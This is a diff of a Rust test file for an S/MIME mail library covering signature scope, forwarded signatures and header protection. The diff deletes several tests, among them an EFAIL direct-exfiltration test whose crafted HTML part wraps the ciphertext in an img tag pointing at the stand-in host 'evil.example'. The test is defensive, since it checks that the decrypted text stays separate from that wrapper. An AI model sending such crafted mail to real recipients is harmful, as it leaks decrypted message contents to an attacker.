@@ -1,38 +1,13 @@
-//! SIG-14, SIG-15, SIG-19, ENC-02, ENC-18: protected parts beside, around and inside of others.
+//! SIG-14, SIG-15: protected parts beside, around and inside of others.
 
 use crate::faces::Faces;
 use smime::policy::StandardPolicy;
-use smime::report::{Encryption, HeaderProtection, SignerStatus};
+use smime::report::SignerStatus;
 
 use crate::ca::Key;
 use crate::forge::*;
-use crate::people::{CAROL, Person, mail_to, now, person, protector};
+use crate::people::{CAROL, Person, now, person};
 use crate::tools::*;
-
-/// multipart/signed as a part, with its own header.
-fn signed_part(part: &str) -> String {
-    let mut detached = Signed::new(part.as_bytes(), &[&alice()]);
-    detached.carried = None;
-    let mail = detached_mail("", part, &detached.build());
-    String::from_utf8(mail)
-        .unwrap()
-        .replace("MIME-Version: 1.0\r\n", "")
-        // With what stands before it, because base64 may hold the two letters alone.
-        .replace("\"b0\"", "\"inner\"")
-        .replace("--b0", "--inner")
-}
-
-fn mixed(kind: &str, parts: &[&str]) -> String {
-    let parts: Vec<String> = parts
-        .iter()
-        .map(|part| format!("--outer\r\n{part}\r\n"))
-        .collect();
-    format!(
-        "{HEADERS}MIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary=outer\r\n\r\n\
-         preamble nobody signed\r\n{}--outer--\r\nepilogue nobody signed\r\n",
-        parts.concat()
-    )
-}
 
 /// Variants after "Johnny, you are fired" (m1 to m4): text around a signed part is never covered by its signature.
 #[test]
@@ -215,165 +190,6 @@ fn sig_15_one_structure_or_none() {
     assert_eq!(opened.trusted().unwrap().bytes(), part.as_bytes());
 }
 
-/// Direct exfiltration (EFAIL): the decrypted text is never joined to what stands around it.
-#[test]
-fn enc_02_a_decrypted_part_is_handed_out_alone() {
-    let protected = protector()
-        .encrypt_to([bob_rsa().certificate()])
-        .not_to_self()
-        .protect(mail_to("To: bob@example.org\r\n").as_str())
-        .unwrap();
-    let mail = String::from_utf8(protected.copies()[0].bytes().to_vec()).unwrap();
-    let at = mail.find("Content-Type: application/pkcs7-mime").unwrap();
-    let attack = mixed(
-        "mixed",
-        &[
-            "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/",
-            mail[at..].trim_end(),
-            "Content-Type: text/html\r\n\r\n\">",
-        ],
-    );
-    let opened = open(&attack);
-    assert_verdict(&opened, "unsigned", "exfiltration");
-    let message = shown(&opened).unwrap();
-    let secret = message
-        .parts()
-        .iter()
-        .find(|part| String::from_utf8_lossy(part.bytes()).contains("Hello Bob"))
-        .expect("the decrypted part is there");
-    let text = String::from_utf8_lossy(secret.bytes()).into_owned();
-    assert!(!text.contains("evil.example"));
-    assert_eq!(
-        secret.protection().encryption(),
-        Encryption::Unauthenticated
-    );
-    assert!(
-        !String::from_utf8_lossy(message.bytes()).contains("Hello Bob"),
-        "the whole holds the ciphertext only"
-    );
-    assert!(
-        told(&opened).contains("part of the message is protected"),
-        "{}",
-        opened.report()
-    );
-}
-
-/// What Alice wrote to Bob, encrypted by Bob to Carol: the signed header shows it.
-#[test]
-fn enc_18_a_message_meant_for_somebody_else() {
-    let part = "From: alice@example.org\r\nTo: dave@example.org\r\nSubject: Q3\r\n\
-                Content-Type: text/plain; hp=\"clear\"\r\n\r\nHello Dave";
-    let inner = opaque_mail("", &Signed::new(part.as_bytes(), &[&alice()]).build());
-    let key = [7; 16];
-    let iv = [9; 16];
-    let bob = bob_rsa();
-    let envelope = Enveloped {
-        kind: ENVELOPED,
-        recipients: vec![key_transport(
-            bob.certificate().to_der(),
-            &rsa_pkcs1(&bob, &key),
-        )],
-        content_type: DATA,
-        algorithm: aes_128_cbc_id(&iv),
-        ciphertext: aes_128_cbc(&key, &iv, &inner),
-        attributes: Vec::new(),
-        mac: None,
-    };
-    let opened = open(opaque_mail(HEADERS, &envelope.build()));
-    assert_verdict(&opened, "trusted", "the signature is Alice's");
-    let report = opened.report();
-    let to = report
-        .protected_headers()
-        .iter()
-        .find(|field| field.name().eq_ignore_ascii_case("to"))
-        .expect("the signed To is reported");
-    assert_eq!(to.value(), "dave@example.org");
-    let text = told(&opened);
-    assert!(
-        text.contains("wrote to dave@example.org and not to you"),
-        "{text}"
-    );
-}
-
-#[test]
-fn sig_19_a_changed_subject_is_seen() {
-    let part = "From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: Q3\r\n\
-                Content-Type: text/plain; hp=\"clear\"\r\n\r\nHello Bob";
-    let signed = Signed::new(part.as_bytes(), &[&alice()]).build();
-    let opened = open(opaque_mail(HEADERS, &signed));
-    assert_verdict(&opened, "trusted", "the same");
-    assert_eq!(opened.report().header_protection(), HeaderProtection::Clear);
-    assert!(!told(&opened).contains("header field Subject"));
-
-    let changed = HEADERS.replace("Subject: Q3", "Subject: Q4");
-    let opened = open(opaque_mail(&changed, &signed));
-    let report = told(&opened);
-    assert!(report.contains("header field Subject"), "{report}");
-    let status = opened.report().layers()[0].signers()[0].status();
-    assert!(status == SignerStatus::Trusted || verdict(&opened) == "untrusted");
-}
-
-/// Alice signs what she forwards, without saying that it is forwarded: the report does not call its header hers.
-#[test]
-fn sig_19_the_header_of_a_forwarded_message_is_not_the_signers() {
-    let part = "Content-Type: message/rfc822\r\n\r\nFrom: Boss <boss@example.org>\r\nSubject: pay now\r\n\
-                Content-Type: text/plain\r\n\r\nHello Alice";
-    let signed = Signed::new(part.as_bytes(), &[&alice()]).build();
-    let opened = open(opaque_mail(HEADERS, &signed));
-    assert_verdict(&opened, "trusted", "Alice signed it");
-    let report = opened.report();
-    assert_eq!(report.header_protection(), HeaderProtection::None);
-    assert!(report.protected_headers().is_empty());
-    assert!(!report.to_string().contains("believe"), "{report}");
-}
-
-/// Nothing of what is kept back stands in the report: header fields, recipients, parts, what is signed inside.
-#[test]
-fn sig_19_a_report_tells_nothing_of_withheld_content() {
-    let nested = signed_part("Content-Type: application/x-secret\r\n\r\nHello Bob");
-    let part = format!(
-        "From: alice@example.org\r\nTo: dave@secret.example\r\nSubject: secret\r\nX-Secret: 1\r\n\
-         Content-Type: multipart/x-secret; boundary=s; hp=\"clear\"\r\n\r\n--s\r\n{nested}\r\n\
-         --s\r\nContent-Type: multipart/signed; boundary=secret\r\n\r\n--s--\r\n"
-    );
-    let mut signed = Signed::new(b"something else", &[&alice()]);
-    signed.carried = Some(part.clone().into_bytes());
-    let inner = opaque_mail("", &signed.build());
-    let (key, iv, bob) = ([7; 16], [9; 16], bob_rsa());
-    let envelope = Enveloped {
-        kind: ENVELOPED,
-        recipients: vec![key_transport(
-            bob.certificate().to_der(),
-            &rsa_pkcs1(&bob, &key),
-        )],
-        content_type: DATA,
-        algorithm: aes_128_cbc_id(&iv),
-        ciphertext: aes_128_cbc(&key, &iv, &inner),
-        attributes: Vec::new(),
-        mac: None,
-    };
-    let opened = open(opaque_mail(HEADERS, &envelope.build()));
-    assert_verdict(&opened, "withheld", "other content");
-    let report = opened.report();
-    assert!(report.protected_headers().is_empty());
-    assert_eq!(report.header_protection(), HeaderProtection::None);
-    assert!(report.parts().is_empty());
-    assert_eq!(report.layers().len(), 2, "{report}");
-    let mut texts = vec![report.to_string(), report.headline()];
-    #[cfg(feature = "serde")]
-    texts.push(serde_json::to_string(report).unwrap());
-    for text in texts.drain(..) {
-        assert!(!text.to_lowercase().contains("secret"), "{text}");
-        assert!(!text.contains("believe"), "{text}");
-    }
-    // The caller who insists gets it all the same.
-    let smime::open::Content::Withheld(withheld) = opened.content() else {
-        panic!("not withheld");
-    };
-    assert_eq!(withheld.dangerous().bytes(), part.as_bytes());
-    assert!(withheld.dangerous().parts().len() > 1);
-}
-
 /// The signer of a message that was forwarded is not the one of the mail around it.
 #[test]
 fn sig_14_a_forwarded_signature_does_not_stand_for_the_mail() {
@@ -548,19 +364,4 @@ fn sig_14_a_trusted_part_does_not_speak_for_the_whole() {
         "{}",
         opened.report()
     );
-}
-
-/// Carol signs a header of Alice's, and puts her own around it: her signature is good, and the two readings differ.
-#[test]
-fn sig_19_another_from_inside_takes_the_trust_away() {
-    let carol = person(Key::P256, CAROL);
-    let outer = HEADERS.replace("Alice <alice@example.org>", CAROL);
-    for (inner, expected) in [(CAROL, "trusted"), ("alice@example.org", "untrusted")] {
-        let part = format!(
-            "From: {inner}\r\nTo: bob@example.org\r\nSubject: Q3\r\n\
-             Content-Type: text/plain; hp=\"clear\"\r\n\r\nHello Bob"
-        );
-        let signed = Signed::new(part.as_bytes(), &[&carol]).build();
-        assert_verdict(&open(opaque_mail(&outer, &signed)), expected, inner);
-    }
 }
